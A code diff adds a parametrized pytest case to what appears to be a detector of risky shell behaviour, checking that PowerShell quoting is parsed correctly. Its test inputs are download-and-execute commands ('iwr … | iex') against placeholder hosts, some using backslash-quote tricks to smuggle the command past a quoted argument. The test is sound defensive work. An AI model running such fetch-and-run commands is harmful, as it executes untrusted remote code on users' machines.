@@ -222,3 +222,18 @@ def test_ordinary_javascript_has_no_behaviour_of_concern(text: str) -> None:
         Behaviour.RUNS_DOWNLOADED,
         Behaviour.HIDDEN_COMMAND,
     } & set(result.behaviours)
+
+
+@pytest.mark.parametrize(
+    ("text", "code"),
+    [
+        # 2n backslashes before a quote are n and the quote ends the group: the rest is code
+        ('powershell -c "echo ok\\\\" ; iwr https://cdn.x.test/a | iex "', "echo ok\\ ; iwr"),
+        ('powershell -c "echo \\"hi\\"; iwr https://cdn.x.test/b | iex"', 'echo "hi"; iwr'),
+        ('powershell -c "iwr https://cdn.x.test/c | iex"', "iwr https://cdn.x.test/c | iex"),
+    ],
+)
+def test_a_whole_quoted_command_is_the_code_windows_hands_powershell(text: str, code: str) -> None:
+    first = interpret(text).layers[0]
+    assert first.startswith(code), first
+    assert "https://cdn.x.test/" in "".join(interpret(text).behaviours[Behaviour.RUNS_DOWNLOADED])
